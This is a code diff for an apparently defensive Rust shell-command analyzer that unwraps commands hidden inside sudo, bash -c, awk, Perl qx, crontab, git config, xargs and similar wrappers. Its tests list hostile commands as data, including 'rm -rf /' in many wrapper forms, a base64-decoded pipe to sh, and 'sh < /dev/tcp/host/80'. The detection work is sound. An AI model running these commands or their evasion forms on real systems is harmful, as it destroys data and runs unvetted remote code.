@@ -69,9 +69,12 @@ fn add_script(
     analysis.problems.extend(script.problems);
     analysis.functions.extend(script.functions);
     analysis.spawning_loops.extend(script.spawning_loops);
+    // Past the limit the command is refused anyway; the rest is not looked at (commands look
+    // through their siblings for the pipeline stages that feed them).
     let siblings: Vec<SimpleCommand> = script
         .commands
         .into_iter()
+        .take(MAX_COMMANDS + 1)
         .map(|mut command| {
             command.via.splice(0..0, outer.via.iter().cloned());
             command.redirects.extend(outer.redirects.iter().cloned());
@@ -268,7 +271,11 @@ fn unwrap(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Unwrapped {
         "ssh" => ssh(args),
         _ if is_awk(&name) => awk(args),
         _ if is_interpreter(&name) => interpreter_shell_calls(&name, args),
-        _ if is_shell(&name) => shell_c(args, &name),
+        _ if is_shell(&name) => match shell_c(args, &name) {
+            Unwrapped::Nothing => script_operand(args, &name),
+            found => found,
+        },
+        "source" | "." => script_operand(args, &name),
         _ => Unwrapped::Nothing,
     }
 }
@@ -331,6 +338,10 @@ const CODE_RUNS_COMMANDS: &[&str] = &[
     "Command",
 ];
 
+static PERL_QX: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bqx\s*(?:\(([^)]*)\)|\{([^}]*)\}|\[([^\]]*)\])").expect("a valid regex")
+});
+
 /// `python -c "os.system('rm -rf ~')"`, `ruby -e 'system("rm", "-rf", "/")'`: when the code runs
 /// commands, each literal string in it and all of them joined as one argv are read as bash.
 fn interpreter_shell_calls(name: &str, args: &[Word]) -> Unwrapped {
@@ -341,8 +352,19 @@ fn interpreter_shell_calls(name: &str, args: &[Word]) -> Unwrapped {
         return Unwrapped::Nothing;
     }
     let mut sources = code_strings(&code);
-    let joined: Vec<String> = sources.iter().map(|s| parse::shell_quote(s)).collect();
-    sources.push(joined.join(" "));
+    // `run(["rm", "-rf", "/"])`: the words of an argv list, from wherever the list starts.
+    let words: Vec<String> = sources.iter().map(|s| parse::shell_quote(s)).collect();
+    for start in 0..words.len().min(16) {
+        sources.push(words[start..].join(" "));
+    }
+    // Perl's `qx(...)` holds a command.
+    sources.extend(PERL_QX.captures_iter(&code).filter_map(|c| {
+        c.iter()
+            .skip(1)
+            .flatten()
+            .next()
+            .map(|m| m.as_str().to_string())
+    }));
     // Perl and Ruby backticks hold a command too.
     sources.extend(code.split('`').skip(1).step_by(2).map(String::from));
     Unwrapped::MaybeScripts {
@@ -457,17 +479,11 @@ fn coproc(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
 
 /// `trap 'CMDS' SIGNALS`: the string runs when a signal (or EXIT) comes.
 fn trap(args: &[Word]) -> Unwrapped {
-    let mut i = 0;
-    while let Some(text) = args.get(i).and_then(|w| w.text()) {
-        match text.as_str() {
-            "-p" | "-l" | "-P" => return Unwrapped::Nothing,
-            "--" => {
-                i += 1;
-                break;
-            }
-            _ => break,
-        }
-    }
+    let i = match args.first().and_then(|w| w.text()).as_deref() {
+        Some("-p" | "-l" | "-P") => return Unwrapped::Nothing,
+        Some("--") => 1,
+        _ => 0,
+    };
     // `trap SIGNAL` alone (one operand) resets, as does `trap - SIGNAL`.
     if args.len() < i + 2 || args[i].text().as_deref() == Some("-") {
         return Unwrapped::Nothing;
@@ -562,9 +578,20 @@ fn git_key_runs_command(key: &str, value: &str) -> bool {
         .any(|suffix| key.rsplit('.').next() == Some(suffix))
 }
 
-/// `git -c KEY=VALUE ...` where the key names a command: the value runs as a shell string.
+/// `git -c KEY=VALUE ...` where the key names a command: the value runs as a shell string;
+/// `git config KEY VALUE` stores one for later git commands.
 fn git_config_commands(args: &[Word]) -> Unwrapped {
     let mut sources = Vec::new();
+    let operands: Vec<String> = args
+        .iter()
+        .filter_map(|w| w.text())
+        .filter(|t| !t.starts_with('-'))
+        .collect();
+    if let [config, key, value, ..] = operands.as_slice() {
+        if config == "config" && git_key_runs_command(key, value) {
+            sources.push(value.trim_start_matches('!').to_string());
+        }
+    }
     let mut i = 0;
     while i < args.len() {
         let Some(text) = args[i].text() else { break };
@@ -621,9 +648,7 @@ fn tar_commands(args: &[Word]) -> Unwrapped {
     for (i, word) in args.iter().enumerate() {
         let Some(text) = word.text() else { continue };
         let value = match text.split_once('=') {
-            Some((option, value)) if WITH_COMMAND.contains(&option) => {
-                Some(word_value(word, value))
-            }
+            Some((option, value)) if WITH_COMMAND.contains(&option) => Some(Word::literal(value)),
             _ if WITH_COMMAND.contains(&text.as_str()) => args.get(i + 1).cloned(),
             _ => continue,
         };
@@ -644,10 +669,6 @@ fn tar_commands(args: &[Word]) -> Unwrapped {
             via: "tar".into(),
         },
     }
-}
-
-fn word_value(_word: &Word, value: &str) -> Word {
-    Word::literal(value)
 }
 
 /// `ssh [options] HOST CMD ...`: the remote shell runs the joined words.
@@ -681,7 +702,7 @@ static AWK_SYSTEM: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"\bsystem\s*\(\s*("(?:[^"\\]|\\.)*")?\s*(\))?"#).expect("a valid regex")
 });
 static AWK_PIPE_TO: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?:^|[^|])\|&?\s*("(?:[^"\\]|\\.)*")?"#).expect("a valid regex")
+    Regex::new(r#"(?:^|[^|])\|&?\s*(?:("(?:[^"\\]|\\.)*")|(getline\b))?"#).expect("a valid regex")
 });
 static AWK_PIPE_FROM: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r#"("(?:[^"\\]|\\.)*")\s*\|&?\s*getline"#).expect("a valid regex"));
@@ -717,9 +738,11 @@ fn awk(args: &[Word]) -> Unwrapped {
         }
     }
     for captures in AWK_PIPE_TO.captures_iter(&code) {
-        match captures.get(1) {
-            Some(literal) => sources.push(awk_string(literal.as_str())),
-            None => {
+        match (captures.get(1), captures.get(2)) {
+            (Some(literal), _) => sources.push(awk_string(literal.as_str())),
+            // `"CMD" | getline`: the command is the string before the pipe, read below.
+            (None, Some(_)) => {}
+            (None, None) => {
                 return Unwrapped::Unreadable("awk pipes into a command built at run time".into())
             }
         }
@@ -862,7 +885,17 @@ fn stdin_program(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Unwrapp
             }
         },
     };
-    match is_shell(&name) || matches!(name.as_str(), "source" | "." | "at" | "batch") {
+    if name == "crontab" {
+        return Unwrapped::Script {
+            source: crontab_commands(&text),
+            via: "crontab".into(),
+        };
+    }
+    let runs_shell = matches!(
+        name.as_str(),
+        "source" | "." | "at" | "batch" | "su" | "sudo" | "doas"
+    );
+    match is_shell(&name) || runs_shell {
         true => Unwrapped::Script {
             source: text,
             via: format!("{name} <stdin>"),
@@ -882,6 +915,25 @@ fn stdin_program(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Unwrapp
             Unwrapped::Commands(vec![inner(command, &format!("{name} <stdin>"), &argv)])
         }
     }
+}
+
+/// The commands of a crontab: each line less its five time fields (or `@reboot`-style one).
+fn crontab_commands(table: &str) -> String {
+    table
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        // `NAME=value` lines set variables, they run nothing.
+        .filter(|l| l.split_once('=').is_none_or(|(k, _)| k.contains(' ')))
+        .map(|l| {
+            let fields = if l.starts_with('@') { 1 } else { 5 };
+            l.splitn(fields + 1, char::is_whitespace)
+                .nth(fields)
+                .unwrap_or("")
+                .to_string()
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
 }
 
 /// The text piped into a command when the stage before it is `echo`/`printf` of literal words.
@@ -922,6 +974,17 @@ fn piped_text(
                 let words: Vec<&str> = words.iter().map(|w| w.as_str()).collect();
                 text.push_str(&words.join(" "));
                 text.push('\n');
+            }
+            ("cat", Some(words)) if words.iter().all(|w| w == "-") => {
+                let here = feeder
+                    .redirects
+                    .iter()
+                    .rev()
+                    .find(|r| r.operator == "<<" || r.operator == "<<<");
+                match here.and_then(|r| r.target.text()) {
+                    Some(body) => text.push_str(&body),
+                    None => return Err(format!("the output of `{}`", feeder.shown())),
+                }
             }
             ("printf", Some(words)) if words.first().is_some_and(|f| !f.contains(['%', '\\'])) => {
                 text.push_str(&words[0]);
@@ -993,13 +1056,52 @@ pub fn reads_program_from_stdin(name: &str, args: &[Word]) -> bool {
                 )
             })
         }
-        // `at TIME` and `batch` read the commands to run from stdin unless `-f FILE` names them.
-        "at" | "batch" => {
+        // `crontab -` (or no file) installs the table it reads from stdin.
+        "crontab" => {
+            let options = ["-l", "-r", "-e", "-i"];
+            let lists = args
+                .iter()
+                .any(|w| w.text().is_some_and(|t| options.contains(&t.as_str())));
+            let file = args
+                .iter()
+                .any(|w| w.text().is_none_or(|t| !t.starts_with('-')));
+            return !lists && (!file || first.as_deref() == Some("-"));
+        }
+        // `su USER` and `sudo -s` / `sudo -i` without a command run a shell reading stdin.
+        "su" => {
             return !args.iter().any(|w| {
-                w.text().is_some_and(|t| {
-                    t.starts_with('-') && t.len() > 1 && t[1..].contains(['f', 'l', 'r', 'd', 'c'])
+                w.text().is_none_or(|t| {
+                    t == "--command"
+                        || (t.starts_with('-') && !t.starts_with("--") && t.contains('c'))
                 })
             })
+        }
+        "sudo" | "doas" => {
+            let options: Vec<String> = args
+                .iter()
+                .map_while(|w| w.text().filter(|t| t.starts_with('-')))
+                .collect();
+            return options.len() == args.len()
+                && options.iter().any(|o| {
+                    !o.starts_with("--") && (o.contains('s') || o.contains('i'))
+                        || o == "--shell"
+                        || o == "--login"
+                });
+        }
+        // `at TIME` and `batch` read the commands to run from stdin unless `-f FILE` names them.
+        "at" | "batch" => {
+            let stdin_file = args.windows(2).any(|w| {
+                w[0].text().is_some_and(|t| t == "-f")
+                    && w[1].text().is_some_and(|t| t == "/dev/stdin" || t == "-")
+            });
+            return stdin_file
+                || !args.iter().any(|w| {
+                    w.text().is_some_and(|t| {
+                        t.starts_with('-')
+                            && t.len() > 1
+                            && t[1..].contains(['f', 'l', 'r', 'd', 'c'])
+                    })
+                });
         }
         _ => {}
     }
@@ -1109,7 +1211,7 @@ fn env(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
     if i >= args.len() {
         return Unwrapped::Nothing;
     }
-    Unwrapped::Commands(vec![inner(command, "env", &args[i..])])
+    in_folder(command, "env", &args[..i], &["-C", "--chdir"], &args[i..])
 }
 
 fn sudo(command: &SimpleCommand, name: &str, args: &[Word]) -> Unwrapped {
@@ -1144,7 +1246,32 @@ fn sudo(command: &SimpleCommand, name: &str, args: &[Word]) -> Unwrapped {
     if at >= args.len() {
         return Unwrapped::Nothing;
     }
-    Unwrapped::Commands(vec![inner(command, name, &args[at..])])
+    in_folder(command, name, &args[..at], &["-D", "--chdir"], &args[at..])
+}
+
+/// The inner command of a wrapper that may change folder first (`env -C DIR`, `sudo -D DIR`): a
+/// `cd DIR` is added before it, so the rules follow the folder as they follow any `cd`.
+fn in_folder(
+    command: &SimpleCommand,
+    wrapper: &str,
+    options: &[Word],
+    chdir: &[&str],
+    argv: &[Word],
+) -> Unwrapped {
+    let mut commands = Vec::new();
+    for (i, word) in options.iter().enumerate() {
+        let Some(text) = word.text() else { continue };
+        let folder = match text.split_once('=') {
+            Some((option, value)) if chdir.contains(&option) => Some(Word::literal(value)),
+            _ if chdir.contains(&text.as_str()) => options.get(i + 1).cloned(),
+            _ => None,
+        };
+        if let Some(folder) = folder {
+            commands.push(inner(command, wrapper, &[Word::literal("cd"), folder]));
+        }
+    }
+    commands.push(inner(command, wrapper, argv));
+    Unwrapped::Commands(commands)
 }
 
 fn xargs(command: &SimpleCommand, args: &[Word], siblings: &[SimpleCommand]) -> Unwrapped {
@@ -1197,16 +1324,47 @@ fn xargs(command: &SimpleCommand, args: &[Word], siblings: &[SimpleCommand]) -> 
     };
     let input = xargs_input(command, siblings);
     match replace {
-        Some(marker) => {
+        Some(marker) if !marker.is_empty() => {
             for word in argv.iter_mut().skip(1) {
-                if word.text().is_some_and(|t| t.contains(&marker)) {
-                    *word = input.clone();
-                }
+                *word = replace_marker(word, &marker, &input);
             }
         }
+        Some(_) => {}
         None => argv.push(input),
     }
     Unwrapped::Commands(vec![inner(command, "xargs", &argv)])
+}
+
+/// A word with each `MARKER` in its literal text replaced by xargs' input (`~/%` → home, then
+/// the input).
+fn replace_marker(word: &Word, marker: &str, input: &Word) -> Word {
+    if !word.source.contains(marker) {
+        return word.clone();
+    }
+    if word.text().is_some_and(|t| t == marker) {
+        return input.clone();
+    }
+    let mut pieces = Vec::new();
+    for piece in &word.pieces {
+        let Piece::Literal { text, glob } = piece else {
+            pieces.push(piece.clone());
+            continue;
+        };
+        for (i, part) in text.split(marker).enumerate() {
+            if i > 0 {
+                pieces.extend(input.pieces.iter().cloned());
+            }
+            pieces.push(Piece::Literal {
+                text: part.to_string(),
+                glob: *glob,
+            });
+        }
+    }
+    Word {
+        pieces,
+        source: word.source.clone(),
+        downloads: word.downloads || input.downloads,
+    }
 }
 
 /// What xargs reads: unknown, except that `find START ... | xargs` yields entries under START (so
@@ -1446,11 +1604,29 @@ fn shell_c(args: &[Word], name: &str) -> Unwrapped {
     script_from(args.get(i), &format!("{name} -c"))
 }
 
-/// `su -c CMD`, `runuser -c CMD`, `script -c CMD`.
+/// `bash <(...)`, `source <(...)`: a script file that is the output of commands, known only when
+/// they run. A download there is the `download-to-shell` rule's (it sees the word).
+fn script_operand(args: &[Word], name: &str) -> Unwrapped {
+    let operand = args
+        .iter()
+        .find(|w| w.text().is_none_or(|t| !t.starts_with('-') || t == "-"));
+    match operand {
+        Some(word) if word.source.starts_with("<(") || word.source.starts_with("$(") => {
+            Unwrapped::Unreadable(format!(
+                "`{name}` runs a script made at run time ({})",
+                word.source
+            ))
+        }
+        _ => Unwrapped::Nothing,
+    }
+}
+
+/// `su -c CMD`, `runuser -c CMD`, `script -c CMD` (also in a cluster: `script -qc CMD`).
 fn dash_c_string(args: &[Word], name: &str) -> Unwrapped {
     for (i, word) in args.iter().enumerate() {
         let Some(text) = word.text() else { continue };
-        if text == "-c" || text == "--command" {
+        let cluster = text.starts_with('-') && !text.starts_with("--") && text.ends_with('c');
+        if cluster || text == "--command" {
             return script_from(args.get(i + 1), &format!("{name} -c"));
         }
         if let Some(inline) = text.strip_prefix("--command=") {
@@ -1545,6 +1721,56 @@ mod tests {
         }
         let dynamic = analyze(r#"bash -c "$SCRIPT""#);
         assert_eq!(dynamic.unreadable.len(), 1);
+    }
+
+    #[test]
+    fn shell_programs_are_read_wherever_a_program_takes_one() {
+        for source in [
+            "bash <<< 'rm -rf /'",
+            "echo 'rm -rf /' | sh",
+            "echo 'rm -rf /' | sudo -s",
+            "source /dev/stdin <<< 'rm -rf /'",
+            "trap 'rm -rf /' EXIT",
+            "alias x='rm -rf /'",
+            "coproc rm -rf /",
+            "PROMPT_COMMAND='rm -rf /' bash -i",
+            "git -c alias.x='!rm -rf /' x",
+            "git -c core.pager='rm -rf /' log",
+            "tar --to-command='rm -rf /' -xf a.tar",
+            "awk 'BEGIN { system(\"rm -rf /\") }'",
+            "ssh host rm -rf /",
+            "echo 'rm -rf /' | at now",
+            "python3 -c \"import os; os.system('rm -rf /')\"",
+            "ruby -e 'system(\"rm\", \"-rf\", \"/\")'",
+            "runuser -u root -- rm -rf /",
+            "systemd-run --user rm -rf /",
+            "nsenter -t 1 -m rm -rf /",
+            "setpriv --reuid=0 rm -rf /",
+        ] {
+            assert!(
+                names(source).contains(&"rm -rf /".to_string()),
+                "{source}: {:?}",
+                names(source)
+            );
+        }
+        for source in [
+            "echo cm0K | base64 -d | sh",
+            "trap \"$X\" EXIT",
+            "BASH_ENV=<(echo x) bash -c true",
+            "awk '{ system($0) }'",
+            "bash <(echo x)",
+            "sh < /dev/tcp/host/80",
+        ] {
+            assert_eq!(analyze(source).unreadable.len(), 1, "{source}");
+        }
+        for source in [
+            "echo ls | sh",
+            "awk '{print $1}'",
+            "git -c color.ui=always log",
+            "trap 'rm -f x' EXIT",
+        ] {
+            assert!(analyze(source).unreadable.is_empty(), "{source}");
+        }
     }
 
     #[test]
